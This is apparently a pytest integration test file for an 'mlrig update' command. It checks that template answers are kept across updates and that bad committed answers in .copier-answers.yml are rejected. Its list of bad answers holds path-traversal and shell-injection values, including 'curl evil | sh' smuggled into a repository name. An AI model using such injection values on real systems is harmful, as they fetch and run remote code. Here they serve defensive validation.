"""Issue 27 (8): `mlrig update` with real copier and git re-renders with the repository's own
answers: from an unchanged template it changes nothing, from a newer one it keeps every
answer the repository was made with; only a --stack the user names re-wires it. A bad
answer committed in .copier-answers.yml stops the update before copier runs."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from mlrig import contract
from mlrig.core.bootstrap import init as bootstrap
from mlrig.main import app
from tests.helpers import aws_outputs

pytestmark = pytest.mark.integration
runner = CliRunner()
ANSWERS = ".copier-answers.yml"
TEMPLATE_VERSION = (bootstrap.packaged_template() / "VERSION").read_text().strip()
_major, _minor, *_ = TEMPLATE_VERSION.split(".")
NEXT_VERSION = f"{_major}.{int(_minor) + 1}.0"


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, check=True, capture_output=True, text=True
    ).stdout


def snapshot(repo: Path) -> dict[str, bytes]:
    """Every file of the work tree (git's own directory aside), byte for byte."""
    return {
        str(p.relative_to(repo)): p.read_bytes()
        for p in sorted(repo.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(repo).parts[:1]
    }


def answers_of(repo: Path) -> dict[str, str]:
    return dict(yaml.safe_load((repo / ANSWERS).read_text()))


def _init(tmp_path: Path, *extra: str) -> Path:
    contract.save(aws_outputs())  # its MLflow has a login: the repo gets an identity
    result = runner.invoke(
        app,
        ["init", str(tmp_path / "proj"), "--stack", "prod", "--no-input"]
        + ["--github-repo", "acme/proj", *extra],
    )
    assert result.exit_code == 0, result.output
    return tmp_path / "proj"


def test_update_from_the_same_template_changes_nothing(
    mlrig_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = _init(tmp_path)
    assert answers_of(repo)["mlflow_username"] == "repo-proj"
    before, head = snapshot(repo), git(repo, "rev-parse", "HEAD")
    monkeypatch.chdir(repo)
    result = runner.invoke(app, ["update", "."])
    assert result.exit_code == 0, result.output
    assert "is up to date with template" in " ".join(result.output.split())
    assert git(repo, "status", "--porcelain") == ""
    assert snapshot(repo) == before  # .copier-answers.yml included
    assert git(repo, "rev-parse", "HEAD") == head


def test_update_from_a_newer_template_keeps_every_answer(
    mlrig_home: Path, tmp_path: Path, template_copy: Path
) -> None:
    contract.save(aws_outputs())
    repo = bootstrap.init(
        tmp_path / "proj", "prod", github_repo="acme/proj", template_dir=template_copy
    ).path
    made_with = answers_of(repo)
    assert made_with["mlflow_username"] == "repo-proj"
    (template_copy / "VERSION").write_text(NEXT_VERSION + "\n")
    dvcignore = template_copy / "template/.dvcignore"
    dvcignore.write_text(dvcignore.read_text() + "notebooks/.ipynb_checkpoints/\n")

    result = bootstrap.update(repo, template_dir=template_copy)
    assert (result.old_version, result.new_version) == (TEMPLATE_VERSION, NEXT_VERSION)
    assert sorted(result.changed) == [ANSWERS, ".dvcignore"]
    after = answers_of(repo)
    assert after == {**made_with, "_commit": NEXT_VERSION}
    assert after["github_repo"] == "acme/proj"
    assert after["mlflow_oidc_audience"] == "mlrig:prod"
    assert "repo:acme/proj:*" in (repo / ".github/workflows/ci.yml").read_text()


def test_rewiring_to_a_named_stack_keeps_the_repositorys_identity(
    mlrig_home: Path, tmp_path: Path
) -> None:
    repo = _init(tmp_path)
    contract.save(aws_outputs("staging"))
    result = runner.invoke(app, ["update", str(repo), "--stack", "staging"])
    assert result.exit_code == 0, result.output
    after = answers_of(repo)
    assert after["stack"] == "staging"
    assert after["mlflow_oidc_audience"] == "mlrig:staging"  # the stack's wiring: named
    assert after["github_repo"] == "acme/proj"  # the repository's own: kept
    assert after["mlflow_username"] == "repo-proj"
    assert after["project_name"] == "proj"


# a project name that would send the re-rendered package outside the repository, and values
# that would end the workflow's YAML value or its shell string (copier checks none of these two)
COMMITTED_BAD = [
    ("project_name: proj", "project_name: ../x", "project name '../x'"),
    ("github_repo: acme/proj", "github_repo: 'acme/x:*\"; curl evil | sh; #'", "--github-repo"),
    (
        "mlflow_tracking_uri: https://mlflow.example.com",
        "mlflow_tracking_uri: 'https://x/\"}'' | sh; echo ''{'",
        "mlflow_tracking_uri",
    ),
    # a version the template history never had: copier would check out whatever it names
    (f"_commit: {TEMPLATE_VERSION}", "_commit: 9.9.9", "_commit 9.9.9 is no version"),
]


@pytest.mark.parametrize(("good", "bad", "says"), COMMITTED_BAD)
def test_a_committed_bad_answer_stops_the_update_before_copier(
    mlrig_home: Path, tmp_path: Path, good: str, bad: str, says: str
) -> None:
    repo = _init(tmp_path)
    answers = repo / ANSWERS
    assert good in answers.read_text()
    answers.write_text(answers.read_text().replace(good, bad))
    git(repo, "commit", "-qam", "edit the answers")
    before, head = snapshot(repo), git(repo, "rev-parse", "HEAD")
    result = runner.invoke(app, ["update", str(repo)])
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    (line,) = result.output.strip().splitlines()
    assert ANSWERS in line and says in line, line
    assert git(repo, "status", "--porcelain") == ""
    assert snapshot(repo) == before and git(repo, "rev-parse", "HEAD") == head
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mlrig-home", "proj"]
